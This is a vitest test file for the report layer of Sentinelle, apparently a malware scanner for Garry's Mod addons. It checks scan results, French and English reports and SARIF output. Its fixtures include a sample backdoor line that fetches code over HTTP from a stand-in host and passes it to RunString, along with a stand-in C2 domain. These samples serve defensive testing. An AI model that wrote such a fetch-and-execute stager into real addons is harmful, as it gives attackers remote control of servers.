// The report layer: a valid ScanResult with localised threats and recommendations, the fr/en
// text report, and SARIF 2.1.0 structure.
import { describe, expect, it } from 'vitest';
import { scanResultSchema, type ScanResult } from '@sentinelle/contracts';
import type { Finding, RuleMeta } from '../rules/types.js';
import { buildScanResult, renderSarif, renderTextReport, type ScanResultInput } from './index.js';

const stagerMeta: RuleMeta = {
  id: 'runstring',
  category: 'code_execution',
  severity: 'critical',
  techniques: ['GB-001'],
  verdictClass: 'backdoor',
  text: {
    en: {
      title: 'Remote code executed',
      description: 'An HTTP body reaches RunString.',
      recommendation: 'Remove the addon.',
    },
    fr: {
      title: 'Code distant exécuté',
      description: 'Une réponse HTTP atteint RunString.',
      recommendation: "Supprimez l'addon.",
    },
  },
};
const vulnMeta: RuleMeta = {
  id: 'exploitable_net',
  category: 'network',
  severity: 'medium',
  techniques: ['GB-004'],
  verdictClass: 'vulnerable',
  text: {
    en: {
      title: 'Known vulnerable receiver',
      description: 'A net receiver known to be exploitable.',
      recommendation: 'Update the addon.',
    },
    fr: {
      title: 'Récepteur vulnérable connu',
      description: 'Un récepteur réseau connu pour être exploitable.',
      recommendation: "Mettez l'addon à jour.",
    },
  },
};

const stager: Finding = {
  ruleId: 'runstring',
  severity: 'critical',
  confidence: 0.95,
  pattern: 'RunString(http body)',
  file: 'lua/autorun/server/sv_hud.lua',
  line: 12,
  snippet: 'http.Fetch("https://cdn-simplehud.invalid/f.php?key=Q2", function(b) RunString(b) end)',
  decoded: 'RunString(b)',
  chain: [
    {
      role: 'source',
      label: 'http.Fetch body',
      file_path: 'lua/autorun/server/sv_hud.lua',
      line_number: 12,
    },
    {
      role: 'sink',
      label: 'RunString',
      file_path: 'lua/autorun/server/sv_hud.lua',
      line_number: 12,
    },
  ],
  related: [{ file: 'materials/x.vmt', line: 3, context: 'hidden' }],
};

function input(over: Partial<ScanResultInput> = {}): ScanResultInput {
  return {
    scanId: 'scan-1',
    filename: 'simplehud.zip',
    language: 'fr',
    scanType: 'standard',
    findings: [stager],
    rules: [stagerMeta, vulnMeta],
    files: [
      {
        path: 'lua/autorun/server/sv_hud.lua',
        kind: 'lua',
        realm: 'server',
        lines: 20,
        parse: 'ok',
        sha256: 'ab'.repeat(32),
      },
    ],
    fileCount: 3,
    totalLinesScanned: 20,
    archiveSha256: 'cd'.repeat(32),
    limitsReached: [],
    scanTimeSeconds: 0.1234,
    engineVersion: '1.0.0',
    rulesVersion: '1.0.0+intel.x',
    ...over,
  };
}

describe('buildScanResult', () => {
  it('produces a result that validates against the contracts schema', () => {
    const result = buildScanResult(input());
    expect(() => scanResultSchema.parse(result)).not.toThrow();
    expect(result.lua_file_count).toBe(1);
    expect(result.archive_sha256).toBe('cd'.repeat(32));
    expect(result.rules_version).toBe('1.0.0+intel.x');
  });

  it('carries localised texts, evidence, chain and every location of a finding', () => {
    const [threat] = buildScanResult(input()).threats;
    expect(threat).toMatchObject({
      pattern_key: 'runstring',
      title: 'Code distant exécuté',
      recommendation: "Supprimez l'addon.",
      localized: { en: { title: 'Remote code executed' }, fr: { title: 'Code distant exécuté' } },
      severity: 'critical',
      verdict_class: 'backdoor',
      techniques: ['GB-001'],
      decoded: 'RunString(b)',
    });
    expect(threat!.chain.map((s) => s.role)).toEqual(['source', 'sink']);
    expect(threat!.locations).toEqual([
      { file_path: 'lua/autorun/server/sv_hud.lua', line_number: 12, context: stager.snippet },
      { file_path: 'materials/x.vmt', line_number: 3, context: 'hidden' },
    ]);
  });

  it('scores a confirmed stager as malicious with removal, firewall and password advice', () => {
    const result = buildScanResult(input({ language: 'en' }));
    expect(result.verdict).toBe('malicious');
    expect(result.score).toBeLessThan(20);
    const keys = result.recommendations.map((r) => r.key);
    expect(keys).toEqual(
      expect.arrayContaining([
        'critical_do_not_install',
        'remove_addon',
        'rotate_passwords',
        'audit_admin_groups',
        'check_data_persistence',
        'block_c2_domains',
      ]),
    );
    const block = result.recommendations.find((r) => r.key === 'block_c2_domains')!;
    expect(block.text).toContain('cdn-simplehud.invalid');
    expect(block.localized.fr).toContain('Bloquez');
  });

  it('uses the safe set for a clean addon and the update advice for vulnerable receivers', () => {
    const clean = buildScanResult(input({ findings: [] }));
    expect(clean).toMatchObject({ score: 100, verdict: 'clean', threats: [] });
    expect(clean.recommendations.map((r) => r.key)).toEqual([
      'safe_install',
      'safe_rescan_updates',
    ]);

    const vuln: Finding = {
      ...stager,
      ruleId: 'exploitable_net',
      severity: 'medium',
      confidence: 0.8,
      chain: [],
      decoded: undefined,
      related: [],
    };
    const result = buildScanResult(input({ findings: [vuln] }));
    expect(result.verdict).toBe('vulnerable');
    expect(result.score).toBeGreaterThanOrEqual(80);
    expect(result.recommendations.map((r) => r.key)).toContain('update_vulnerable_addons');
  });

  it('keeps a finding of an unknown rule, and merges repeats of one rule at one place', () => {
    const unknown: Finding = { ...stager, ruleId: 'brand_new_rule', severity: 'low' };
    const result = buildScanResult(
      input({ findings: [stager, { ...stager, confidence: 0.5 }, unknown] }),
    );
    expect(result.threats).toHaveLength(2);
    expect(result.threats[0]!.confidence).toBe(0.95);
    expect(result.threats[1]).toMatchObject({
      pattern_key: 'brand_new_rule',
      category: 'uncategorized',
    });
    expect(() => scanResultSchema.parse(result)).not.toThrow();
  });

  it('turns archive problems into threats and keeps limits apart', () => {
    const result = buildScanResult(
      input({
        findings: [],
        archiveFindings: [
          {
            kind: 'path_traversal',
            path: '../../cfg/server.cfg',
            detail: 'entry name leaves the archive',
          },
          { kind: 'limit_reached', path: '', detail: 'maxEntries' },
        ],
        limitsReached: ['maxEntries', 'maxEntries'],
      }),
    );
    expect(result.threats.map((t) => t.pattern_key)).toEqual(['archive_path_traversal']);
    expect(result.limits_reached).toEqual(['maxEntries']);
    expect(result.threats[0]!.title).toBe("Entrée d'archive hors de son dossier");
  });

  it('cuts giant one-line snippets so the JSON stays small', () => {
    const long: Finding = { ...stager, snippet: 'x'.repeat(100_000) };
    const [threat] = buildScanResult(input({ findings: [long] })).threats;
    expect(threat!.code_snippet.length).toBeLessThanOrEqual(2000);
    expect(threat!.locations[0]!.context.length).toBeLessThanOrEqual(300);
  });
});

describe('renderTextReport', () => {
  const result: ScanResult = buildScanResult(input());

  it('writes the English report with score, threats, locations and recommendations', () => {
    const text = renderTextReport(result, 'en');
    expect(text).toContain('SENTINELLE — ADDON SECURITY REPORT');
    expect(text).toContain(`Security score: ${result.score}/100 (critical)`);
    expect(text).toContain('Verdict: malicious');
    expect(text).toContain('[1] CRITICAL — Remote code executed');
    expect(text).toContain('lua/autorun/server/sv_hud.lua (line 12)');
    expect(text).toContain('source: http.Fetch body — lua/autorun/server/sv_hud.lua:12');
    expect(text).toContain('Do not install this addon.');
    expect(text).not.toContain('Code distant exécuté');
  });

  it('writes the French report from the same result', () => {
    const text = renderTextReport(result, 'fr');
    expect(text).toContain("RAPPORT DE SÉCURITÉ D'ADDON");
    expect(text).toContain('Verdict\u00a0: malveillant');
    expect(text).toContain('[1] CRITIQUE — Code distant exécuté');
    expect(text).toContain('(ligne 12)');
    expect(text).toContain("N'installez pas cet addon.");
    expect(text).not.toContain('Remote code executed');
  });

  it('says so when nothing was found', () => {
    expect(renderTextReport(buildScanResult(input({ findings: [] })), 'en')).toContain(
      'No threat found.',
    );
  });
});

describe('renderSarif', () => {
  it('has the SARIF 2.1.0 shape: driver rules, results with rule, level and located region', () => {
    const vuln: Finding = {
      ...stager,
      ruleId: 'exploitable_net',
      severity: 'medium',
      line: 0,
      file: 'lua/my addon/sv.lua',
      chain: [],
      related: [],
    };
    const sarif = renderSarif(buildScanResult(input({ findings: [stager, vuln] })));
    expect(sarif.version).toBe('2.1.0');
    expect(sarif.$schema).toContain('sarif-2.1.0');
    const run = sarif.runs[0]!;
    expect(run.tool.driver.name).toBe('Sentinelle');
    expect(run.tool.driver.rules.map((r) => r.id)).toEqual(['runstring', 'exploitable_net']);
    const first = run.results[0]!;
    const second = run.results[1]!;
    expect(first).toMatchObject({ ruleId: 'runstring', ruleIndex: 0, level: 'error' });
    expect(first.locations[0]!.physicalLocation).toEqual({
      artifactLocation: { uri: 'lua/autorun/server/sv_hud.lua', uriBaseId: 'ADDONROOT' },
      region: { startLine: 12 },
    });
    expect(first.codeFlows?.[0]?.threadFlows[0]?.locations).toHaveLength(2);
    expect(first.relatedLocations?.[0]?.physicalLocation.region?.startLine).toBe(3);
    expect(second).toMatchObject({ ruleId: 'exploitable_net', ruleIndex: 1, level: 'warning' });
    // Line 0 (whole file) has no region, since SARIF lines start at 1; spaces are encoded.
    expect(second.locations[0]!.physicalLocation).toEqual({
      artifactLocation: { uri: 'lua/my%20addon/sv.lua', uriBaseId: 'ADDONROOT' },
    });
    expect(JSON.parse(JSON.stringify(sarif))).toEqual(sarif);
  });
});

describe('incomplete scans', () => {
  it('never calls a scan stopped by a limit safe, and says why', () => {
    const result = buildScanResult(
      input({ findings: [], limitsReached: ['time_budget'], language: 'en' }),
    );
    expect(result.score).toBeLessThan(80);
    expect(result.limits_reached).toEqual(['time_budget']);
    const rec = result.recommendations.find((r) => r.key === 'incomplete_scan');
    expect(rec?.text).toContain('time_budget');
  });
});

describe('firewall advice', () => {
  it('names hosts found only in the chain of a threat', () => {
    const hidden: Finding = {
      ...stager,
      snippet: 'http.Fetch(u, RunString)',
      decoded: undefined,
      chain: [
        {
          role: 'source',
          label: 'HTTP body of https://c2.example.invalid/x.php',
          file_path: 'a.lua',
          line_number: 1,
        },
      ],
    };
    const result = buildScanResult(input({ findings: [hidden], language: 'en' }));
    expect(result.recommendations.find((r) => r.key === 'block_c2_domains')?.text).toContain(
      'c2.example.invalid',
    );
  });
});
